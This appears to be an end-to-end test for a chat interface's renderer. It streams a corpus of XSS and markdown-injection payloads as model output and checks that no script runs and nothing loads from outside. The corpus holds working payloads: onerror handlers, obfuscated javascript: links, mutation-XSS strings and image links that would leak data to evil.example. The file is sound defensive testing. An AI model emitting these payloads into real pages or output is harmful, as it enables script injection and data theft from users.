import { expect, scripted as test } from "../fixtures/scripted.ts";

/** Each would run a script or load something, if the page let it. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/leak.png>",
  "![leak](https://evil.example/leak.png?q=secret)",
  "![x](javascript:alert(1))",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox(1))",
  '<a href="javascript:alert(1)">click</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=https://evil.example></object>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>@import url(https://evil.example/a.css);</style>",
  "<style>body{background:url(https://evil.example/b.png)}</style>",
  '<div style="background:url(https://evil.example/c.png)">x</div>',
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><button>go</button></form>",
  "<video src=https://evil.example/v><audio src=https://evil.example/a>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |",
  "<https://evil.example/auto> and javascript:alert(1)",
  "[a]: javascript:alert(1)\n[a]",
  "\\<script>alert(1)\\</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

test("whatever a model writes, letter by letter: no script runs, nothing is loaded", async ({
  chat,
  origin,
}) => {
  const { page } = chat;
  const dialogs: string[] = [];
  const requests: string[] = [];
  const violations: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(`${origin}/`)) requests.push(request.url());
  });
  // Nothing even tries: the policy of the page is the second line of defence, not the first.
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await chat.open();
  const hostile = "script, iframe, object, embed, form, base, style, link, [onerror], [onload]";
  for (const [index, text] of CORPUS.entries()) {
    const end = `end ${index}`;
    await chat.sayScript({ chunks: [...text, `\n\n${end}`] });
    // Older answers leave the document when they are far from the viewport, so each is looked at now.
    await expect(chat.answers.last()).toContainText(end);
    await chat.expectEnd();
    await expect(chat.answers.locator(hostile)).toHaveCount(0);
    const addresses = await chat.answers
      .locator("a[href], [src]")
      .evaluateAll((nodes) =>
        nodes.map((node) => node.getAttribute("href") ?? node.getAttribute("src")),
      );
    for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:|#)/);
    for (const link of await chat.answers.getByRole("link").all()) {
      expect(await link.getAttribute("rel")).toContain("noopener");
    }
  }
  expect(dialogs).toEqual([]);
  expect(requests).toEqual([]);
  expect(violations).toEqual([]);
});
